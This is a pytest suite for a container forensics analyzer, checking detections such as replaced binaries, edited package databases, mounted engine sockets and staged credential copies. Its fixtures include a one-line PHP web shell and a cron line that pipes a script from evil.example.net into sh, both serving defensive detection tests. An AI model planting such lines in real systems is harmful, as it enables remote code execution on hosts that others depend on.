"""The analysis as a whole: stored and read back, deterministic, honest about what failed, quiet on a benign system."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from analyze_cases import ELF, F, layer, make_case, paths, process, rules

import forensics.analyze as room
from forensics.analyze import analyze, build_analysis, read_analysis
from forensics.analyze.evidence_view import CaseView
from forensics.analyze.examine import Examiner
from forensics.analyze.scanner import Scanner, ScanRequest, find_rule_files, open_scanner
from forensics.analyze.table import ANALYZERS, Analyzer
from forensics.errors import CaseError, RuleError
from forensics.model import Finding, Outcome, Severity, Verdict

SHELL = "<?php system($_GET['c']); ?>"


def md5(content: bytes) -> str:
    return hashlib.md5(content, usedforsecurity=False).hexdigest()


def debian_packages(version: str, files: dict[str, bytes]) -> dict[str, F | bytes | str]:
    """Return the database entries of one package that owns *files*."""
    listing = "/.\n" + "".join(f"/{name}\n" for name in files)
    sums = "".join(f"{md5(content)}  {name}\n" for name, content in files.items())
    status = f"Package: tool\nStatus: install ok installed\nVersion: {version}\n\n"
    return {
        "var/lib/dpkg/status": status,
        "var/lib/dpkg/info/tool.list": listing,
        "var/lib/dpkg/info/tool.md5sums": sums,
    }


def test_stored_and_read_back_unchanged_and_the_same_again(tmp_path: Path) -> None:
    files = {
        "tmp/\udcff\n".encode("utf-8", "surrogateescape").decode("latin-1"): F(ELF, 0o755),
        "var/www/html/a.php": SHELL,
    }
    with make_case(tmp_path / "case", [layer({"a": "1"}), layer(files)]) as case:
        analysis = analyze(case)
        stored = {path.name: path.read_bytes() for path in (case.root / "analysis").iterdir()}
        assert read_analysis(case) == analysis
        assert analyze(case) == analysis
        assert {path.name: path.read_bytes() for path in (case.root / "analysis").iterdir()} == stored
    assert analysis.verdict is Verdict.COMPROMISED
    assert "yara.webshell_php_request_to_execution" in rules(analysis.findings)
    assert [finding.severity.rank for finding in analysis.findings] == sorted(
        finding.severity.rank for finding in analysis.findings
    )


def test_a_case_without_analysis_says_so(tmp_path: Path) -> None:
    with make_case(tmp_path / "case") as case, pytest.raises(CaseError, match="has not been analysed"):
        read_analysis(case)


def test_a_failing_analyzer_is_named_and_the_others_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def break_down(_view: CaseView) -> Iterator[Finding]:
        raise ValueError("no such thing")
        yield

    table = (Analyzer("broken", break_down, "processes"), *ANALYZERS)
    monkeypatch.setattr("forensics.analyze.table.ANALYZERS", table)
    documents = {"processes": {"processes": [process(3, ["/tmp/x"], "/tmp/x")], "views": {}}}
    with make_case(tmp_path / "case", None, documents) as case:
        analysis = build_analysis(case, yara=False)
    line = next(line for line in analysis.ledger if line.artefact == "analysis: broken")
    assert line.outcome is Outcome.FAILED
    assert "no such thing" in line.reason
    assert any("could not be examined: analysis: broken" in reason for reason in analysis.reasons)
    assert "process.runs-from-temporary-place" in rules(analysis.findings)


def test_a_damaged_image_never_reads_as_clean(tmp_path: Path) -> None:
    with make_case(tmp_path / "case") as case:
        case.add("image", [b"\x1f\x8b\x08 not an image"], source="test", method="test", filename="image.tar")
        analysis = build_analysis(case, yara=False)
    assert any(line.outcome is Outcome.FAILED for line in analysis.ledger)
    assert any(reason.startswith("could not be examined") for reason in analysis.reasons)


def test_the_death_of_the_scanner_is_a_failure_of_that_content_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = Scanner.scan

    def die_on_marked(self: Scanner, request: ScanRequest) -> Any:
        if b"KILL" in request.data and self._worker:
            self._worker.kill()
            self._worker.wait()
        return whole(self, request)

    monkeypatch.setattr(Scanner, "scan", die_on_marked)
    with make_case(tmp_path / "case", [layer({"a": "1"}), layer({"b": "KILL", "c.php": SHELL})]) as case:
        analysis = build_analysis(case)
    failed = [line.reason for line in analysis.ledger if line.outcome is Outcome.FAILED]
    assert failed == ["/b: the scanning process died or hung on this content"]
    assert "yara.webshell_php_request_to_execution" in rules(analysis.findings)
    assert any("/b" in reason for reason in analysis.reasons)


def test_identical_content_is_scanned_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[bytes] = []
    whole = Scanner.scan
    monkeypatch.setattr(Scanner, "scan", lambda self, request: asked.append(request.data) or whole(self, request))
    layers = [layer({"a": "same", "b": "same"}), layer({"c": "same", "tmp/d": "same"})]
    with make_case(tmp_path / "case", layers) as case:
        build_analysis(case)
    assert asked.count(b"same") == 1


def test_a_rule_that_does_not_compile_names_file_and_line(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yar"
    bad.write_text("rule y { condition: true }\nrule x {\n  condition: nothing\n}\n")
    with pytest.raises(RuleError, match=r"bad\.yar:3: ") as caught, open_scanner(find_rule_files((bad,))):
        pass
    assert caught.value.exit_code == 2


def test_includes_are_off(tmp_path: Path) -> None:
    (tmp_path / "inner.yar").write_text("rule y { condition: true }")
    outer = tmp_path / "outer.yar"
    outer.write_text(f'include "{tmp_path}/inner.yar"\nrule x {{ condition: true }}')
    with pytest.raises(RuleError), open_scanner(find_rule_files((outer,))):
        pass


def test_users_rules_with_externals_and_scores(tmp_path: Path) -> None:
    rule = tmp_path / "mine.yar"
    rule.write_text(
        'rule mine { meta: score = 80 author = "me" reference = "https://example.org/r" strings: $a = "needle"'
        ' condition: $a and filename == "x.txt" and extension == ".txt" and filepath == "/opt/x.txt" and owner == "0" }'
    )
    with make_case(
        tmp_path / "case", [layer({"a": "1"}), layer({"opt/x.txt": "needle", "opt/y.txt": "a needle"})]
    ) as case:
        found = rules(build_analysis(case, rules=(rule,)).findings)["yara.mine"]
    assert paths(found) == {b"opt/x.txt"}
    assert found.severity is Severity.HIGH
    assert "author: me" in found.matched


PROGRAM = ELF + b"program"
UPGRADED = ELF + b"a newer program"


def test_what_a_package_brings_is_left_alone(tmp_path: Path) -> None:
    files = {"usr/bin/tool": PROGRAM, "etc/cron.d/tool": b"1 * * * * root tool\n", "usr/lib/libtool.so.1": ELF + b"lib"}
    brought = {name: F(content, 0o755) for name, content in files.items()}
    base = {"var/lib/dpkg/status": "Package: base-files\nVersion: 12\n"}
    changed = {**brought, **debian_packages("1.0", files)}
    with make_case(tmp_path / "case", [layer(base), layer(changed, later=60)]) as case:
        assert rules(build_analysis(case).findings, Severity.MEDIUM) == {}


def test_an_upgrade_is_left_alone_and_a_replaced_program_is_not(tmp_path: Path) -> None:
    base = {"usr/bin/tool": F(PROGRAM, 0o755), **debian_packages("1.0", {"usr/bin/tool": PROGRAM})}
    upgrade = {"usr/bin/tool": F(UPGRADED, 0o755), **debian_packages("1.1", {"usr/bin/tool": UPGRADED})}
    with make_case(tmp_path / "honest", [layer(base), layer(upgrade, later=60)]) as case:
        assert rules(build_analysis(case, yara=False).findings, Severity.MEDIUM) == {}
    with make_case(tmp_path / "replaced", [layer(base), layer({"usr/bin/tool": F(UPGRADED, 0o755)}, later=60)]) as case:
        assert set(rules(build_analysis(case, yara=False).findings, Severity.LOW)) == {"system.binary-replaced"}


def test_an_edited_package_database_gives_the_intruder_away(tmp_path: Path) -> None:
    base = {"usr/bin/tool": F(PROGRAM, 0o755), **debian_packages("1.0", {"usr/bin/tool": PROGRAM})}
    edited = {"usr/bin/tool": F(UPGRADED, 0o755), **debian_packages("1.0", {"usr/bin/tool": UPGRADED})}
    with make_case(tmp_path / "case", [layer(base), layer(edited, later=60)]) as case:
        found = rules(build_analysis(case, yara=False).findings)
    assert {"system.binary-replaced", "system.package-database-edited"} <= set(found)


def test_mounted_engine_socket_is_not_clean_and_defaults_are_quiet(tmp_path: Path) -> None:
    inspect: dict[str, Any] = {"Config": {"User": ""}, "HostConfig": {"NetworkMode": "bridge"}, "Mounts": []}
    with make_case(tmp_path / "quiet", None, {"inspect": inspect}) as case:
        analysis = build_analysis(case, yara=False)
    assert analysis.verdict is Verdict.NO_EVIDENCE
    assert rules(analysis.findings, Severity.MEDIUM) == {}
    mount = {"Type": "bind", "Source": "/var/run/docker.sock", "Destination": "/var/run/docker.sock", "RW": True}
    with make_case(tmp_path / "open", None, {"inspect": inspect | {"Mounts": [mount]}}) as case:
        analysis = build_analysis(case, yara=False)
    assert analysis.verdict is Verdict.SUSPICIOUS
    assert any("socket" in finding.title.lower() for finding in analysis.findings)


def test_indicators_and_timeline_come_from_what_was_found(tmp_path: Path) -> None:
    cron = "* * * * * root curl http://evil.example.net:8080/x.sh | sh # 198.51.100.9\n"
    files = {"etc/cron.d/a": cron, "usr/share/doc/x.txt": "http://ordinary.example.com/"}
    with make_case(tmp_path / "case", [layer({"a": "1"}), layer(files, later=60)]) as case:
        analysis = build_analysis(case)
    pairs = {(indicator.type, indicator.value) for indicator in analysis.indicators}
    assert ("url", "http://evil.example.net:8080/x.sh") in pairs
    assert ("domain", "evil.example.net") in pairs
    assert not any("ordinary" in value for _, value in pairs)
    assert [event.at for event in analysis.timeline] == sorted(event.at for event in analysis.timeline)
    assert any(event.description.startswith("/etc/cron.d/a: content changed") for event in analysis.timeline)


def test_tmpfs_and_executables_are_examined_too(tmp_path: Path) -> None:
    with make_case(tmp_path / "case") as case:
        tar = layer({"x": F(ELF + b"1", 0o755)})
        case.add("tmpfs", [tar], source="t", method="t", filename="content.tar", attributes={"mount": "/dev/shm"})
        data = b"\x7fELF mining.subscribe mining.authorize mining.submit"
        attributes = {"pids": [77], "exe": "/memfd:x (deleted)"}
        case.add("executable", [data], source="t", method="t", attributes=attributes)
        found = rules(build_analysis(case).findings)
    assert paths(found["file.program-in-temporary-place"]) == {b"dev/shm/x"}
    assert [reference.pid for reference in found["yara.miner_protocol_client"].evidence] == [77]


def test_the_room_needs_no_engine() -> None:
    assert not any("engine" in name for name in vars(room))
    assert Examiner(None).scanner is None


def test_the_engine_socket_under_another_name(tmp_path: Path) -> None:
    mount = {"Type": "bind", "Source": "/opt/engine/x.sock", "Destination": "/x", "RW": True}
    documents = {
        "inspect": {"Config": {}, "HostConfig": {}, "Mounts": [mount]},
        "host": {"engine_socket": {"path": "/opt/engine/x.sock"}},
    }
    with make_case(tmp_path / "case", None, documents) as case:
        found = rules(build_analysis(case, yara=False).findings)
    assert found["posture.engine-socket"].severity is Severity.CRITICAL


def test_data_gathered_for_the_way_out(tmp_path: Path) -> None:
    shadow = "root:$6$abc$def:19000:0:99999:7:::\n"
    changed = {"tmp/.X/.s": shadow, "tmp/.X/.s.tgz": b"\x1f\x8b\x08" + bytes(40), "etc/shadow-": shadow}
    with make_case(tmp_path / "case", [layer({"etc/shadow": shadow}), layer(changed, later=60)]) as case:
        found = rules(build_analysis(case, yara=False).findings)
    assert b"tmp/.X/.s" in paths(found["collection.copy-of-credentials"])
    assert b"etc/shadow-" not in paths(found["collection.copy-of-credentials"])
    assert paths(found["collection.archive-staged"]) == {b"tmp/.X/.s.tgz"}


def test_a_shell_below_an_applet_that_serves(tmp_path: Path) -> None:
    table = [
        process(10, ["httpd", "-p", "80"], "/bin/busybox"),
        process(11, ["/bin/sh", "thumb"], "/bin/busybox", ppid=10),
    ]
    with make_case(tmp_path / "case", None, {"processes": {"processes": table}}) as case:
        assert "process.shell-under-server" in rules(build_analysis(case, yara=False).findings)
